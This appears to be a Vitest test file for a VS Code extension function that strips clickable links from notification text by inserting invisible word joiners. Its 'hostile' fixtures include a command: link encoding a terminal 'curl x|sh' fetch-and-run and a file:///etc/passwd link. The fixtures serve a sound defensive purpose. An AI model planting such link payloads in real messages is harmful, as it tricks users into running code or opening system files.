import { describe, expect, it } from 'vitest'
import { plainToastText } from '../../src/shared/toast-text'

/**
 * The links a notification's message holds, by the grammar VS Code documents for them:
 * `[label](target)` with a web, `file:` or `command:` target and an optional quoted title.
 */
const links = (message: string): string[] =>
  [...message.matchAll(/\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)\3)?\)/gi)].map(
    (m) => m[2] ?? '',
  )

describe('plainToastText', () => {
  const hostile = [
    'bash: [Allow](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)',
    'Mission failed: see [the log](https://example.test/x "Open the log")',
    'Left 1 file you changed: [notes](file:///etc/passwd).md',
    '[a](command:x) and [b](command:y)',
  ]

  it('leaves no link in text that held one', () => {
    for (const text of hostile) {
      expect(links(text).length, text).toBeGreaterThan(0)
      expect(links(plainToastText(text)), text).toEqual([])
    }
  })

  it('changes nothing a reader sees: only invisible word joiners are added', () => {
    for (const text of hostile) expect(plainToastText(text).replaceAll('\u2060', '')).toBe(text)
    expect(plainToastText('Applied 6 files to workspace (main) [done]')).toBe(
      'Applied 6 files to workspace (main) [done]',
    )
  })
})
